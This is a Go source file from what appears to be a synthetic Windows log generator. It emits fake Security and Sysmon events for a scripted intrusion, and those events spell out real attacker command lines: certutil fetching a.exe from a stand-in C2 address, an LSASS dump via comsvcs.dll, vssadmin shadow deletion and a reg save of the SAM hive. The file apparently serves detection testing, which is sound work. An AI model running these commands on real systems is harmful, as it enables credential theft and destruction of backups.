package gen

import (
	"encoding/base64"
	"strconv"
	"time"
)

// The attack story. Offsets are event time after Options.AttackAt; a step is
// emitted in the first event slot at or after its offset, one step per slot,
// so at the default rate the offsets are exact.
//
//	0.000–1.200 s  password spray: 25 × 4625 on the first DC, from SprayIP,
//	               one per user (the first 25 users of the estate), 50 ms apart
//	1.500–3.240 s  brute force: 30 × 4625 for Administrator on the first
//	               workstation (NW-WS101), from BruteIP, 60 ms apart
//	3.500 s        4624 LogonType 10 (RDP) for Administrator from BruteIP
//	3.510 s        4672 special privileges for that logon
//	3.800 s        Sysmon 1: userinit.exe   (parent winlogon.exe)
//	3.850 s        Sysmon 1: explorer.exe   (parent userinit.exe)
//	4.100 s        Sysmon 1: cmd.exe        (parent explorer.exe)
//	4.400 s        Sysmon 1: whoami /all    (parent cmd.exe)
//	4.700 s        Sysmon 1: net group "domain admins" /domain (parent cmd.exe)
//	4.720 s        Sysmon 1: net1 group "domain admins" /domain (parent net.exe)
//	5.000 s        Sysmon 1: powershell -nop -w hidden -enc … (parent cmd.exe)
//	5.300 s        Sysmon 1: certutil -urlcache -split -f http://C2IP/a.exe (parent powershell.exe)
//	5.350 s        Sysmon 3: certutil.exe → C2IP:80
//	5.400 s        Sysmon 11: certutil.exe creates C:\Users\Public\a.exe
//	5.700 s        Sysmon 1: rundll32 comsvcs.dll, MiniDump <lsass pid> (parent cmd.exe)
//	5.750 s        Sysmon 11: rundll32.exe creates C:\Users\Public\l.dmp
//	6.000 s        Sysmon 1: vssadmin delete shadows /all /quiet (parent cmd.exe)
//	6.300 s        Sysmon 1: reg save HKLM\SAM (parent cmd.exe)
//	6.350 s        Sysmon 11: reg.exe creates C:\Users\Public\sam.save
//
// All story processes run as NORTHWIND\Administrator in RDP session 2 with
// High integrity. Commands typed into cmd.exe carry the double space cmd.exe
// puts after the program name, as real Sysmon events do.
const (
	SprayIP          = "203.0.113.50"  // password spray source
	BruteIP          = "198.51.100.23" // brute force and RDP logon source
	C2IP             = "203.0.113.80"  // tool download server
	SprayUsers       = 25
	BruteAttempts    = 30
	BruteUser        = "Administrator"
	sprayWorkstation = "WIN-ULKQ2N8C3DB" // client names the attackers' tools send
	bruteWorkstation = "DESKTOP-J4TBP1L"
	storyLogonID     = 0x8a31f2
)

// StoryDuration is the event time from AttackAt to the last story step.
const StoryDuration = 6350 * time.Millisecond

// EncodedScript is the PowerShell script of the story; its UTF-16LE base64
// form follows -enc on the command line.
const EncodedScript = `$ErrorActionPreference='SilentlyContinue';certutil.exe -urlcache -split -f http://` + C2IP + `/a.exe C:\Users\Public\a.exe`

// step is one story event.
type step struct {
	at   time.Duration // offset from Start
	emit func(dst []byte, t time.Time) []byte
}

// storyProc is a process the attacker starts. Its guid is set when its
// creation is emitted, before any child's.
type storyProc struct {
	proc
	parent           *proc
	cwd, pathB, cmdB []byte // CurrentDirectory, Image and CommandLine, as procEvent wants them
}

// encodePowerShell returns the -EncodedCommand form of script (ASCII).
func encodePowerShell(script string) string {
	b := make([]byte, 0, 2*len(script))
	for i := 0; i < len(script); i++ {
		b = append(b, script[i], 0)
	}
	return base64.StdEncoding.EncodeToString(b)
}

// newStory builds the story steps, starting at attackAt.
func (g *Generator) newStory(attackAt time.Duration) []step {
	es := g.e
	dc := &es.hosts[es.dcs[0]]
	wsIndex := es.workstations[0]
	ws := &es.hosts[wsIndex]
	var steps []step
	add := func(ms int, emit func([]byte, time.Time) []byte) {
		steps = append(steps, step{at: attackAt + time.Duration(ms)*time.Millisecond, emit: emit})
	}

	// 1. Password spray against the DC.
	for k := range SprayUsers {
		u := &es.users[k]
		add(50*k, func(dst []byte, t time.Time) []byte {
			e := logonEvent{
				logonType: 3, user: u.name, domain: domainNB,
				ip: SprayIP, port: g.ephemeralPort(), workstation: sprayWorkstation,
				logonProcess: "NtLmSsp ", authPackage: "NTLM", lmPkg: "-", procName: "-",
				status: "0xc000006d", subStatus: "0xc000006a",
			}
			e.subjectNull()
			return g.appendLogonFailure(dst, dc, t, &e)
		})
	}

	// 2. Brute force of Administrator over RDP (NLA: network logons), then success.
	for k := range BruteAttempts {
		add(1500+60*k, func(dst []byte, t time.Time) []byte {
			e := logonEvent{
				logonType: 3, user: BruteUser, domain: domainNB,
				ip: BruteIP, port: g.ephemeralPort(), workstation: bruteWorkstation,
				logonProcess: "NtLmSsp ", authPackage: "NTLM", lmPkg: "-", procName: "-",
				status: "0xc000006d", subStatus: "0xc000006a",
			}
			e.subjectNull()
			return g.appendLogonFailure(dst, ws, t, &e)
		})
	}
	adminSID := domainSID + "-500"
	logonAt := g.opt.Start.Add(attackAt + 3500*time.Millisecond).Unix()
	admin := &account{
		name:      domainNB + `\` + BruteUser,
		logonID:   storyLogonID,
		logonGUID: logonGUID(ws.guidHi, logonAt, storyLogonID),
		session:   2,
		integrity: "High",
	}
	add(3500, func(dst []byte, t time.Time) []byte {
		lg := makeGUID(0x6f1e2a9c, 0x51b3, 0x4d0e, 0x9a27, 0x3c5e7f10b2d4)
		e := logonEvent{
			logonType: 10, user: BruteUser, domain: domainNB, sid: adminSID,
			logonID: storyLogonID, logonGUID: &lg,
			procID: uint64(ws.procs[pSvcNetsvcs].pid), procName: imgSvchost.path,
			logonProcess: "User32 ", authPackage: "Negotiate", lmPkg: "-",
			workstation: bruteWorkstation, ip: BruteIP, port: 0,
			elevated: true, restrictedAdmin: "%%1843",
		}
		e.subjectMachine(ws)
		return g.appendLogon(dst, ws, t, &e)
	})
	add(3510, func(dst []byte, t time.Time) []byte {
		return g.appendSpecialPrivileges(dst, ws, t, BruteUser, domainNB, adminSID, storyLogonID, privAdmin)
	})

	// 3. Hands on keyboard on the workstation.
	const home = `C:\Users\Administrator\`
	const sys32 = `C:\Windows\system32\`
	newProc := func(img *image, cmd, cwd string, parent *proc) *storyProc {
		p := &storyProc{parent: parent, cwd: []byte(cwd), pathB: []byte(img.path), cmdB: []byte(cmd)}
		p.img, p.path, p.cmd, p.acct = img, img.path, cmd, admin
		p.pid = 4 * (1200 + int64(len(steps))*37)
		return p
	}
	spawn := func(ms int, p *storyProc) {
		add(ms, func(dst []byte, t time.Time) []byte {
			utc := g.sysmonUTC(t)
			ws.seq++
			p.guid = processGUID(ws.guidHi, utc.Unix(), ws.seq, ws.guidTail)
			e := procEvent{img: p.img, path: p.pathB, cmd: p.cmdB, cwd: p.cwd, pid: p.pid, guid: p.guid, acct: p.acct, parent: p.parent, utc: utc}
			return g.appendProcCreate(dst, ws, t, &e)
		})
	}
	createFile := func(ms int, p *storyProc, path string) {
		target := []byte(path)
		add(ms, func(dst []byte, t time.Time) []byte {
			return g.appendFileCreate(dst, ws, t, &p.proc, target, g.sysmonUTC(t))
		})
	}

	userinit := newProc(imgUserinit, `C:\Windows\system32\userinit.exe`, sys32, &ws.procs[pWinlogon])
	spawn(3800, userinit)
	explorer := newProc(imgExplorer, `C:\Windows\Explorer.EXE`, sys32, &userinit.proc)
	spawn(3850, explorer)
	cmd := newProc(imgCmd, `"C:\Windows\system32\cmd.exe" `, home, &explorer.proc)
	spawn(4100, cmd)
	spawn(4400, newProc(imgWhoami, `whoami  /all`, home, &cmd.proc))
	net := newProc(imgNet, `net  group "domain admins" /domain`, home, &cmd.proc)
	spawn(4700, net)
	spawn(4720, newProc(imgNet1, `C:\Windows\system32\net1  group "domain admins" /domain`, home, &net.proc))
	ps := newProc(imgPowerShell, `powershell.exe  -nop -w hidden -enc `+encodePowerShell(EncodedScript), home, &cmd.proc)
	spawn(5000, ps)
	certutil := newProc(imgCertutil, `"C:\Windows\system32\certutil.exe" -urlcache -split -f http://`+C2IP+`/a.exe C:\Users\Public\a.exe`, home, &ps.proc)
	spawn(5300, certutil)
	add(5350, func(dst []byte, t time.Time) []byte {
		e := netEvent{
			p: &certutil.proc, srcIP: ws.ip, srcHost: ws.fqdn, srcPort: g.ephemeralPort(),
			dstIP: C2IP, dstHost: "-", dstPort: 80, dstPortName: "http", utc: g.sysmonUTC(t),
		}
		return g.appendNetConn(dst, ws, t, &e)
	})
	createFile(5400, certutil, `C:\Users\Public\a.exe`)
	dump := newProc(imgRundll32, `rundll32.exe  C:\Windows\System32\comsvcs.dll, MiniDump `+strconv.FormatInt(ws.lsassPID, 10)+` C:\Users\Public\l.dmp full`, home, &cmd.proc)
	spawn(5700, dump)
	createFile(5750, dump, `C:\Users\Public\l.dmp`)
	spawn(6000, newProc(imgVssadmin, `vssadmin.exe  delete shadows /all /quiet`, home, &cmd.proc))
	reg := newProc(imgReg, `reg.exe  save HKLM\SAM C:\Users\Public\sam.save`, home, &cmd.proc)
	spawn(6300, reg)
	createFile(6350, reg, `C:\Users\Public\sam.save`)
	return steps
}
